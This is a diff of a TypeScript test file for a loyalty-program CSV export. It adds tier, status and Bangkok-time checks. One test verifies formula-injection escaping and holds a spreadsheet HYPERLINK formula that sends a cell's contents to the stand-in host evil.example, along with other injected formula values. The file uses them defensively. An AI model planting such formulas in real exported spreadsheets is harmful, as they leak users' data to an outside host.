@@ -1,8 +1,9 @@
 import { sql } from 'drizzle-orm';
 import { describe, expect, it } from 'vitest';
-import { createMember } from '../../../test/factories.js';
+import { addSpending, createMember, uniqueMobile } from '../../../test/factories.js';
 import { useTestDatabase } from '../../../test/helper.js';
 import { TERMINAL_ACTOR } from '../audit/audit-service.js';
+import { bangkokInstant } from '../calendar/bangkok-calendar.js';
 import { earnPoints, spendPoints } from '../points/point-service.js';
 import { type ExportRequest, ledgerRangeOf, startExport } from './export-service.js';
 
@@ -30,13 +31,32 @@ describe('CSV exports', () => {
 
     expect(
       csv.startsWith(
-        '\uFEFFmember_id,status,login_type,first_name,last_name,email,mobile_no,point_balance,created_at\n',
+        '\uFEFFmember_id,status,login_type,first_name,last_name,email,mobile_no,tier,point_balance,created_at\n',
       ),
     ).toBe(true);
     const line = csv.split('\n').find((row) => row.startsWith(member.mbkMemberId));
     expect(line).toBe(
-      `${member.mbkMemberId},active,1,สมชาย,"ใจดี, ""ตัวจริง""",${member.email},,75,${member.createdAt.toISOString()}`,
+      `${member.mbkMemberId},Active,Foreigner,สมชาย,"ใจดี, ""ตัวจริง""",${member.email},,Member,75,${bangkokInstant(member.createdAt)}`,
     );
+  });
+
+  it('writes the tier the last twelve months’ spending reached, the mobile as grouped text and Bangkok times', async () => {
+    const { orm } = context.database;
+    const now = new Date();
+    const mobile = uniqueMobile();
+    const member = await createMember(orm, { loginType: 2, mobileNo: mobile, status: 'suspended' });
+    await addSpending(orm, { memberId: member.id, amount: 60_000, spentAt: new Date(now.getTime() - 86_400_000) });
+    await addSpending(orm, { memberId: member.id, amount: 200_000, spentAt: new Date('2020-01-01T00:00:00Z') });
+
+    const csv = await readAll(await exportCsv({ kind: 'members', filters: {} }));
+
+    const line = csv
+      .split('\n')
+      .find((row) => row.startsWith(member.mbkMemberId))
+      ?.split(',');
+    expect(line?.slice(1, 3)).toEqual(['Suspended', 'Thai']);
+    expect(line?.slice(6, 9)).toEqual([`${mobile.slice(0, 3)}-${mobile.slice(3, 6)}-${mobile.slice(6)}`, 'Gold', '0']);
+    expect(line?.[9]).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\+07:00$/);
   });
 
   it('writes text a spreadsheet would run as a formula as text, and negative numbers as numbers', async () => {
@@ -54,9 +74,9 @@ describe('CSV exports', () => {
     const line = members.split('\n').find((row) => row.startsWith(member.mbkMemberId));
     expect(line).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&E2,""Click"")",'@SUM(1+1),`);
     const entries = ledger.split('\n').filter((row) => row.includes(`,${member.mbkMemberId},`));
-    expect(entries.map((row) => row.split(',').slice(4, 6))).toEqual([
-      ['20', "'+cmd"],
-      ['-5', "'-2+3"],
+    expect(entries.map((row) => row.split(',').slice(2, 6))).toEqual([
+      ['Earned', 'Code', '20', "'+cmd"],
+      ['Spent', 'Redemption', '-5', "'-2+3"],
     ]);
   });
 
